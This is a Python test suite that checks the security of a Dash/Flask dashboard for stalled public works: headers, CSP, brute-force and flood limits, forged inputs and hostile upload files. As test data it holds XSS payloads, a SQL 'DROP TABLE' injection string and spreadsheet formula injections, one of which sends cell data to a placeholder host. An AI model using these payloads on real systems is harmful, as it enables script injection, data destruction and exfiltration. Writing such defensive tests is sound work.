"""Security checklist, against the real app: one server and one headless Chromium for the
module, the rest through the same Flask server. Read top to bottom:

1. Headers. Every response carries a Content-Security-Policy whose scripts are this origin's
   and Dash's own inline scripts by hash (no 'unsafe-inline', no 'unsafe-eval'),
   X-Content-Type-Options, X-Frame-Options and frame-ancestors, Referrer-Policy and
   Permissions-Policy; over HTTPS the session cookie is Secure and HSTS is sent.
2. The policy in Chromium. Every page works under it (no violation reported, maps drawn),
   and an injected inline script, event handler or `javascript:` link does not run.
3. Hostile citizen reports (script tags, event handlers, `javascript:` links, SVG, zero-width
   characters) are stored as written, shown as text on the work page and the moderation
   page, and execute nothing; a NUL is dropped (PostgreSQL text cannot hold it) and a 100 KB
   body is refused with a clear message.
4. Forged callback inputs (an unknown ubigeo, SQL in filter values, 10,000-element lists, an
   unknown callback) get a Spanish message and never a traceback; the database is intact.
5. Login brute force: every failure is slowed and logged (never the password), then blocked.
6. Report flooding: at most RATE_LIMIT reports per client in the window, whichever app
   process receives them (the count is in PostgreSQL).
7. Hostile files for the loaders (a truncated xlsx, latin-1, a BOM, semicolons, missing
   columns, spreadsheet formulas, rows repeated ten times) fail with one clear line or
   quarantine; a load that fails half-way leaves every table exactly as it was.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import time
from pathlib import Path

import pytest
import sqlalchemy as sa

from dashboard import reports_auth
from geodata import paralizadas
from geodata import works as works_module
from geodata.runs import LoaderError
from queries import reports as reports_query
from queries.reports import citizen_report
from scripts.dash_calls import UPDATE_URL, DashCallbacks
from tests.browser_support import browser, live_server, screenshot  # noqa: F401
from tests.citizen_data import DISTRICT
from tests.conftest import PARALIZADAS_CSV
from tests.test_reports import _answer, _login, _send

pytest_plugins = ["tests.citizen_support"]
pytestmark = [pytest.mark.db, pytest.mark.browser]
WAIT = 30
MODERATOR = ("moderadora", "una clave larga y rara")
# What a page records when the policy blocks something (installed before any page script).
WATCH_VIOLATIONS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', function (e) {
  window.__csp.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || ''));
});"""
TRACEBACK_MARKS = ("Traceback", 'File "', "sqlalchemy.exc", "psycopg.", "KeyError")


# -- fixtures ----------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def watched(browser):  # noqa: F811
    """The module's Chromium, recording every policy violation of each page it opens."""
    added = browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument",
                                    {"source": WATCH_VIOLATIONS})
    yield browser
    browser.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument",
                            {"identifier": added["identifier"]})


@pytest.fixture(scope="module")
def client(citizen_app, citizen_works):
    return citizen_app.server.test_client()


@pytest.fixture(scope="module")
def calls(client) -> DashCallbacks:
    return DashCallbacks(client.get("/_dash-dependencies").get_json())


def _wait(driver, condition, timeout=WAIT):
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, timeout).until(condition)


def _violations(driver) -> list[str]:
    return driver.execute_script("return window.__csp || [];")


def _open(driver, url: str, ready: str) -> None:
    """Open a page and wait until `ready` (a CSS selector) is on it and Dash is idle."""
    from selenium.webdriver.common.by import By

    driver.get(url)
    _wait(driver, lambda d: d.find_elements(By.CSS_SELECTOR, ready))
    _wait(driver, lambda d: d.execute_script(
        "return !document.querySelector('[data-dash-is-loading=\"true\"]');"))


# -- 1. headers --------------------------------------------------------------------------------
def _policy(response) -> dict[str, list[str]]:
    header = response.headers["Content-Security-Policy"]
    return {part.split()[0]: part.split()[1:] for part in header.split(";") if part.strip()}


@pytest.mark.parametrize(("method", "path"), [
    ("GET", "/"), ("GET", "/obra/{story}"), ("GET", "/obra/1"), ("GET", "/moderacion"),
    ("GET", "/api/v1/areas?level=1"), ("GET", "/api/docs"), ("GET", "/api/v1/nada"),
    ("GET", "/_dash-layout"), ("GET", "/assets/style.css"), ("POST", UPDATE_URL),
])
def test_every_response_carries_the_security_headers(client, citizen_works, method, path):
    url = path.format(story=citizen_works["story"])
    response = client.open(url, method=method, json={} if method == "POST" else None)
    policy = _policy(response)
    scripts = policy["script-src"]
    assert scripts[0] == "'self'" and all(s.startswith("'sha256-") for s in scripts[1:])
    assert len(scripts) > 2, "Dash's renderer and clientside callbacks, by hash"
    assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts
    assert policy["default-src"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'self'"] and policy["base-uri"] == ["'self'"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert response.headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    permissions = response.headers["Permissions-Policy"]
    assert "geolocation=(self)" in permissions and "camera=()" in permissions
    assert "Strict-Transport-Security" not in response.headers   # plain HTTP: no HSTS


def test_every_inline_script_of_a_page_is_allowed_by_hash(client):
    """The policy names each script Dash writes into the page (else the page would not
    start): every executable inline <script> of the index has its hash in script-src."""
    import base64
    import hashlib
    import re

    response = client.get("/")
    allowed = set(_policy(response)["script-src"])
    html = response.get_data(as_text=True)
    inline = [(attrs, body) for attrs, body in re.findall(
        r"<script(?![^>]*\bsrc=)([^>]*)>(.*?)</script>", html, re.S)
        if "application/json" not in attrs]
    assert len(inline) >= 2
    for _, body in inline:
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in allowed


def test_over_https_the_session_cookie_is_secure_and_hsts_sent(citizen_app, monkeypatch):
    monkeypatch.setenv(reports_auth.USER_ENV, MODERATOR[0])
    monkeypatch.setenv(reports_auth.PASSWORD_ENV, MODERATOR[1])
    for scheme, secure in (("https", True), ("http", False)):
        client = citizen_app.server.test_client()
        answer = _login(client, *MODERATOR, address=f"10.77.0.{int(secure)}",
                        base_url=f"{scheme}://mirador.example")
        cookie = answer.headers["Set-Cookie"]
        assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
        assert ("; Secure" in cookie) is secure, cookie
        assert ("Strict-Transport-Security" in answer.headers) is secure


# -- 2. the policy in Chromium -------------------------------------------------------------------
PAGES = [("/", "#explorar-map .main-svg"), ("/alertas", "#alertas-table"),
         (f"/cerca?area={DISTRICT}", "#cerca-map .main-svg"), ("/comparar", "#comparar-areas"),
         ("/datos", "main h1"), ("/obra/{story}", "#obra-progress .main-svg"),
         (f"/informe/{DISTRICT}", "main h1"), ("/moderacion", "#moderacion-body"),
         ("/api/docs", "h1")]


def test_every_page_works_under_the_policy(watched, live_server, citizen_works):  # noqa: F811
    from selenium.webdriver.common.by import By

    for path, ready in PAGES:
        _open(watched, live_server + path.format(story=citizen_works["story"]), ready)
        time.sleep(0.3)   # late chunks (Plotly's map workers) report their violations too
        assert _violations(watched) == [], path
        banner = watched.find_elements(By.ID, "app-error")
        assert not banner or not banner[0].is_displayed(), (path, banner[0].text)
    screenshot(watched, "security-pages")


def test_an_injected_script_does_not_run(watched, live_server, citizen_works):  # noqa: F811
    """What a successful HTML injection could add to a page: all three are blocked."""
    _open(watched, f"{live_server}/obra/{citizen_works['story']}", "#obra-title")
    watched.execute_script("""
        document.body.insertAdjacentHTML('beforeend',
            '<img src="/nada.png" onerror="window.__pwned = 1">');
        var s = document.createElement('script');
        s.textContent = 'window.__pwned = 2';
        document.body.appendChild(s);
        var a = document.createElement('a');
        a.href = 'javascript:window.__pwned = 3';
        document.body.appendChild(a);
        a.click();""")
    _wait(watched, lambda d: len(_violations(d)) >= 3)
    assert watched.execute_script("return window.__pwned;") is None
    blocked = " ".join(_violations(watched))
    assert "script-src-attr" in blocked and "script-src-elem" in blocked


# -- 3. hostile citizen reports -------------------------------------------------------------------
HOSTILE = [
    "<script>window.__pwned = 'script'</script> la losa está rajada",
    '<img src=x onerror="window.__pwned = \'img\'"> no hay señalización en la zanja',
    '<a href="javascript:window.__pwned = \'link\'">clic aquí</a> para ver las fotos de la obra',
    '<svg onload="window.__pwned = \'svg\'"><script>window.__pwned = 1</script></svg> hundida',
    "Sin\u200bespacios\u200d de ancho cero\ufeff en la vereda \u2060nueva",
    "\"'><iframe src=javascript:window.__pwned=1></iframe>{{7*7}}${7*7} la obra sigue igual",
]


@pytest.fixture(scope="module")
def hostile_reports(client, citizen_works, national_areas) -> dict[int, str]:
    """Each hostile text sent through the real report callback; report id -> text."""
    code = citizen_works["around_4"]
    with national_areas.begin() as conn:
        conn.execute(sa.delete(citizen_report).where(citizen_report.c.infobras_code == code))
    for text in HOSTILE:
        assert "recibido" in _answer(_send(client, code, "otro", text))[0], text
    with national_areas.connect() as conn:
        rows = conn.execute(sa.select(citizen_report.c.id, citizen_report.c.description)
                            .where(citizen_report.c.infobras_code == code)).all()
    return {row.id: row.description for row in rows}


def test_hostile_text_is_stored_as_written(hostile_reports):
    assert sorted(hostile_reports.values()) == sorted(HOSTILE)


def test_nul_is_dropped_and_100_kb_refused(client, citizen_works, national_areas):
    code = citizen_works["around_5"]
    text, _ = _answer(_send(client, code, "otro", "x" * 102_400))
    assert "es demasiado larga: tiene 102 400 caracteres y el máximo es 2 000" in text
    _answer(_send(client, code, "otro", "La obra\x00 está parada desde marzo"))
    with national_areas.connect() as conn:
        stored = conn.execute(sa.select(citizen_report.c.description).where(
            citizen_report.c.infobras_code == code)).scalars().all()
    assert stored == ["La obra está parada desde marzo"]


def _texts_on_page(driver, selector: str) -> list[tuple[str, int]]:
    """(textContent, number of child elements) of each element matching `selector`."""
    return [tuple(t) for t in driver.execute_script(
        "return Array.from(document.querySelectorAll(arguments[0]))"
        ".map(e => [e.textContent, e.children.length]);", selector)]


def _nothing_ran(driver) -> None:
    assert driver.execute_script("return window.__pwned;") is None
    assert _violations(driver) == [], "the text was never markup, so nothing was even blocked"
    assert not driver.execute_script(
        "return document.querySelector('.citizen-report-text script, .citizen-report-text img,"
        " .citizen-report-text svg, .citizen-report-text a, .citizen-report-text iframe');")


def test_hostile_text_is_shown_as_text_to_the_moderator(watched, live_server,  # noqa: F811
                                                        hostile_reports, monkeypatch):
    from selenium.webdriver.common.by import By

    monkeypatch.setenv(reports_auth.USER_ENV, MODERATOR[0])
    monkeypatch.setenv(reports_auth.PASSWORD_ENV, MODERATOR[1])
    _open(watched, f"{live_server}/moderacion", "#moderacion-user")
    watched.find_element(By.ID, "moderacion-user").send_keys(MODERATOR[0])
    watched.find_element(By.ID, "moderacion-password").send_keys(MODERATOR[1])
    watched.find_element(By.ID, "moderacion-login").click()
    _wait(watched, lambda d: d.find_elements(By.CSS_SELECTOR, ".moderacion-report"))
    shown = _texts_on_page(watched, ".moderacion-report .citizen-report-text")
    for text in HOSTILE:
        assert (text, 0) in shown, text
    _nothing_ran(watched)
    screenshot(watched, "security-moderation")
    watched.find_element(By.ID, "moderacion-logout").click()
    _wait(watched, lambda d: d.find_elements(By.ID, "moderacion-user"))


def test_hostile_text_is_shown_as_text_on_the_work_page(watched, live_server,  # noqa: F811
                                                        hostile_reports, citizen_works):
    for report_id in hostile_reports:
        assert reports_query.moderate(report_id, "aprobado", "recibido", None, "prueba")
    _open(watched, f"{live_server}/obra/{citizen_works['around_4']}", ".citizen-report-text")
    shown = _texts_on_page(watched, ".citizen-report-text")
    for text in HOSTILE:
        assert (text, 0) in shown, text
    _nothing_ran(watched)
    screenshot(watched, "security-work-page")


# -- 4. forged callback inputs --------------------------------------------------------------------
def _post(client, payload: dict) -> tuple[int, str]:
    response = client.post(UPDATE_URL, json=payload)
    return response.status_code, json.dumps(response.get_json(silent=True) or
                                            response.get_data(as_text=True), ensure_ascii=False)


def _no_traceback(body: str) -> None:
    for mark in TRACEBACK_MARKS:
        assert mark not in body, body[:500]


SQL = "08' OR '1'='1'; DROP TABLE work; --"
MANY = [f"{i:06d}" for i in range(10_000)]


@pytest.mark.parametrize(("search", "message"), [
    ("?area=999999", "No existe un área con ubigeo 999999."),
    (f"?area={SQL}", "Área no válida"),
    (f"?status={SQL}", "Estado no válido"),
    (f"?sector={SQL}", ""),          # an unknown sector is a filter that matches nothing
    (f"?q={SQL}", ""),               # text search: bound parameters, no match
    ("?" + "&".join(f"status=paralizada{i}" for i in range(10_000)), "Demasiados valores"),
    ("?metric=<script>", "Métrica no válida"),
], ids=["unknown-ubigeo", "sql-area", "sql-status", "sql-sector", "sql-text", "10000-values",
        "bad-metric"])
def test_forged_explorer_urls(client, calls, national_areas, search, message):
    """The URL's callback (which keeps the controls in step) or the view's says what is
    wrong, in the page's message or the banner."""
    answers = [_post(client, calls.payload("explorar-url.search",
                                           {"explorar-url.search": search},
                                           ["explorar-url.search"])),
               _post(client, calls.explorer(search))]
    for status, body in answers:
        _no_traceback(body)
        assert status == 200 and "error inesperado" not in body
    assert message in answers[0][1] + answers[1][1]
    with national_areas.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM work")).scalar() > 0


@pytest.mark.parametrize(("output", "values", "message"), [
    ("comparar-table.children", {"comparar-areas.value": MANY, "comparar-per.value": "hab",
                                 "comparar-metric.value": "investment",
                                 "comparar-level.value": 3}, "como máximo"),
    ("comparar-table.children", {"comparar-areas.value": ["999999", SQL],
                                 "comparar-per.value": "hab", "comparar-metric.value": SQL,
                                 "comparar-level.value": SQL}, "Nivel no válido"),
    ("comparar-areas.options", {"comparar-level.value": SQL, "comparar-areas.value": MANY}, ""),
    ("explorar-url.search", {"explorar-status.value": MANY}, "Demasiados valores"),
    ("explorar-url.search", {"explorar-sector.value": [SQL]}, ""),
    ("cerca-url.search", {"cerca-place.value": "999999", "cerca-radius.value": SQL}, ""),
    ("cerca-summary.children", {"cerca-url.search": f"?area={SQL}&r=1e9"}, ""),
    ("alertas-table.data", {"alertas-url.search": f"?rule={SQL}&area=999999",
                            "alertas-table.page_current": -5,
                            "alertas-table.page_size": 10_000_000,
                            "alertas-table.sort_by": [{"column_id": SQL, "direction": SQL}]},
     ""),
    ("explorar-card-body.children", {"explorar-map.clickData": {"points": [
        {"location": SQL, "customdata": MANY}]}}, ""),
    ("_pages_content.children", {"_pages_location.pathname": f"/obra/{SQL}"}, ""),
], ids=["compare-10000-areas", "compare-sql", "compare-sql-level", "explorer-10000-statuses",
        "explorer-sql-sector", "near-me-unknown-place", "near-me-sql", "alerts-sql-and-huge-page",
        "map-click-forged", "work-page-sql"])
def test_forged_callback_inputs(client, calls, national_areas, output, values, message):
    payload = calls.payload(output, values, list(values)[:1])
    status, body = _post(client, payload)
    _no_traceback(body)
    assert status == 200, body[:300]
    assert "error inesperado" not in body
    assert message in body


def test_an_unknown_callback_is_refused_without_a_traceback(client):
    status, body = _post(client, {"output": "nada.children", "outputs": {
        "id": "nada", "property": "children"}, "inputs": [], "changedPropIds": []})
    assert status in (400, 404, 500)
    _no_traceback(body)


# -- 5. login brute force --------------------------------------------------------------------------
def test_login_guessing_is_slowed_logged_and_blocked(citizen_app, monkeypatch, caplog):
    monkeypatch.setenv(reports_auth.USER_ENV, MODERATOR[0])
    monkeypatch.setenv(reports_auth.PASSWORD_ENV, MODERATOR[1])
    monkeypatch.setattr(reports_auth, "LOGIN_ATTEMPTS", 3)
    client = citizen_app.server.test_client()
    caplog.set_level(logging.WARNING, logger=reports_auth.__name__)
    started = time.perf_counter()
    for guess in ("123456", "admin", "moderadora2026"):
        assert "incorrectos" in _login(client, "admin", guess, "10.66.0.9").get_data(as_text=True)
    assert time.perf_counter() - started >= 3 * reports_auth.LOGIN_DELAY
    blocked = _login(client, *MODERATOR, address="10.66.0.9").get_data(as_text=True)
    assert "Demasiados intentos fallidos" in blocked
    assert "Set-Cookie" not in blocked
    failures = [r.getMessage() for r in caplog.records if "ingreso fallido" in r.getMessage()]
    assert len(failures) == 3 and "3 de 3" in failures[-1]
    assert any("ingreso bloqueado" in r.getMessage() for r in caplog.records)
    logged = " ".join(r.getMessage() for r in caplog.records)
    assert "moderadora2026" not in logged and "10.66.0.9" not in logged
    other = _login(citizen_app.server.test_client(), *MODERATOR, address="10.66.0.10")
    assert "Sesión de " in json.dumps(other.get_json(), ensure_ascii=False)   # not blocked


# -- 6. report flooding ---------------------------------------------------------------------------
def test_report_flooding_is_limited_per_client_across_processes(citizen_app, citizen_works,
                                                                national_areas):
    """Two clients of the app stand for two workers: the count is shared (PostgreSQL)."""
    code = citizen_works["around_2"]
    first, second = citizen_app.server.test_client(), citizen_app.server.test_client()
    text = "La obra tiene el cerco caído sobre la vereda desde hace semanas."
    for n in range(reports_query.RATE_LIMIT):
        sent = _answer(_send(first if n % 2 else second, code, "riesgo", text,
                             address="10.55.0.1"))[0]
        assert "recibido" in sent
    refused = _answer(_send(first, code, "riesgo", text, address="10.55.0.1"))[0]
    assert f"Ya envió {reports_query.RATE_LIMIT} reportes" in refused
    assert "recibido" in _answer(_send(second, code, "riesgo", text, address="10.55.0.2"))[0]


# -- 7. hostile files for the loaders -------------------------------------------------------------
BASE_CODE = 9_600_000


@pytest.fixture(scope="module")
def sample_rows() -> tuple[list[str], list[list[str]]]:
    """The real paralysed-works file's header and first rows, under codes of their own."""
    with PARALIZADAS_CSV.open(encoding="utf-8", newline="") as f:
        reader = csv.reader(f)
        header = next(reader)
        rows = [next(reader) for _ in range(4)]
    code, cui = header.index("cod_infobras"), header.index("cui")
    for i, row in enumerate(rows):
        row[code], row[cui] = str(BASE_CODE + i), ""
    return header, rows


def _csv_text(header, rows, sep=",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=sep, lineterminator="\r\n").writerows([header, *rows])
    return out.getvalue()


def _tables(engine: sa.Engine) -> dict[str, str]:
    """Every table but the load log, as a digest of its rows."""
    with engine.connect() as conn:
        names = conn.execute(sa.text(
            "SELECT quote_ident(table_name) FROM information_schema.tables WHERE "
            "table_schema = 'public' AND table_type = 'BASE TABLE' AND table_name NOT IN "
            "('load_run', 'spatial_ref_sys')")).scalars().all()
        return {n: conn.execute(sa.text(
            f"SELECT count(*) || ':' || coalesce(md5(string_agg(t::text, '|' ORDER BY "
            f"t::text)), '') FROM {n} t")).scalar() for n in names}


@pytest.fixture()
def own_works(national_areas):
    yield national_areas
    with national_areas.begin() as conn:
        conn.execute(sa.text("DELETE FROM work WHERE infobras_code BETWEEN :a AND :b"),
                     {"a": BASE_CODE, "b": BASE_CODE + 99})


def _load(path: Path, engine: sa.Engine):
    return paralizadas.load(path, engine=engine, refresh_views=False)


def _stored_names(engine) -> dict[int, str]:
    with engine.connect() as conn:
        return dict(conn.execute(sa.text(
            "SELECT infobras_code, name FROM work WHERE infobras_code BETWEEN :a AND :b"),
            {"a": BASE_CODE, "b": BASE_CODE + 99}).all())


@pytest.mark.parametrize("variant", ["latin-1", "bom", "semicolons"])
def test_encodings_and_separators_load_the_same(own_works, sample_rows, tmp_path, variant):
    header, rows = sample_rows
    rows = [[*r] for r in rows]
    name = header.index("nombre_obra")
    rows[0][name] = "AMPLIACIÓN DEL PUENTE ÑAUPA EN PEÑA, AÑO 2026"
    text = _csv_text(header, rows, ";" if variant == "semicolons" else ",")
    path = tmp_path / "paralizadas_2026-05.csv"
    if variant == "latin-1":
        path.write_bytes(text.encode("latin-1", errors="replace"))
    else:
        path.write_bytes((("\ufeff" if variant == "bom" else "") + text).encode("utf-8"))
    run = _load(path, own_works)
    assert run.rows_read == len(rows) and run.quarantined == 0
    assert _stored_names(own_works)[BASE_CODE] == rows[0][name]


def test_missing_columns_and_a_truncated_xlsx_fail_clearly(own_works, sample_rows, tmp_path):
    header, rows = sample_rows
    before = _tables(own_works)
    keep = [i for i, h in enumerate(header) if h not in ("distrito", "estado_hist_infobras")]
    cut = tmp_path / "sin-columnas.csv"
    cut.write_text(_csv_text([header[i] for i in keep], [[r[i] for i in keep] for r in rows]),
                   encoding="utf-8")
    with pytest.raises(LoaderError, match="faltan columnas obligatorias: distrito, "
                                          "estado_hist_infobras"):
        _load(cut, own_works)
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(header)
    for row in rows:
        book.active.append(row)
    whole = tmp_path / "entero.xlsx"
    book.save(whole)
    truncated = tmp_path / "truncado.xlsx"
    truncated.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    with pytest.raises(LoaderError, match="no se puede leer como hoja de cálculo"):
        _load(truncated, own_works)
    assert _tables(own_works) == before


def test_formulas_are_quarantined_never_loaded(own_works, sample_rows, tmp_path):
    header, rows = sample_rows
    rows = [[*r] for r in rows]
    name, entity = header.index("nombre_obra"), header.index("entidad")
    rows[1][name] = "=cmd|' /C calc'!A0"
    rows[2][entity] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[3][name] = "+HYPERLINK(\"http://x.example/?\"&A1,\"ver\")"
    path = tmp_path / "paralizadas_2026-05.csv"
    path.write_text(_csv_text(header, rows), encoding="utf-8")
    run = _load(path, own_works)
    assert run.quarantined == 3 and run.reasons["formula"] == 3
    assert set(_stored_names(own_works)) == {BASE_CODE}


def test_rows_repeated_ten_times_load_once(own_works, sample_rows, tmp_path):
    header, rows = sample_rows
    path = tmp_path / "paralizadas_2026-05.csv"
    path.write_text(_csv_text(header, rows * 10), encoding="utf-8")
    run = _load(path, own_works)
    assert run.rows_read == 10 * len(rows)
    assert run.loaded + run.updated + run.unchanged == len(rows)
    assert run.duplicates + run.quarantined == 9 * len(rows)
    assert len(_stored_names(own_works)) == len(rows)


def test_a_load_failing_half_way_leaves_every_table_as_it_was(own_works, sample_rows,
                                                              tmp_path, monkeypatch):
    header, rows = sample_rows
    path = tmp_path / "paralizadas_2026-05.csv"
    path.write_text(_csv_text(header, rows), encoding="utf-8")
    before = _tables(own_works)
    written = works_module.write_works

    def write_then_fail(run, records):
        written(run, records)
        raise RuntimeError("falla simulada después de escribir las obras")

    monkeypatch.setattr(works_module, "write_works", write_then_fail)
    with pytest.raises(RuntimeError, match="falla simulada"):
        _load(path, own_works)
    assert _tables(own_works) == before
    with own_works.connect() as conn:
        status, message = conn.execute(sa.text(
            "SELECT status, message FROM load_run ORDER BY id DESC LIMIT 1")).one()
    assert status == "failed" and "falla simulada" in message
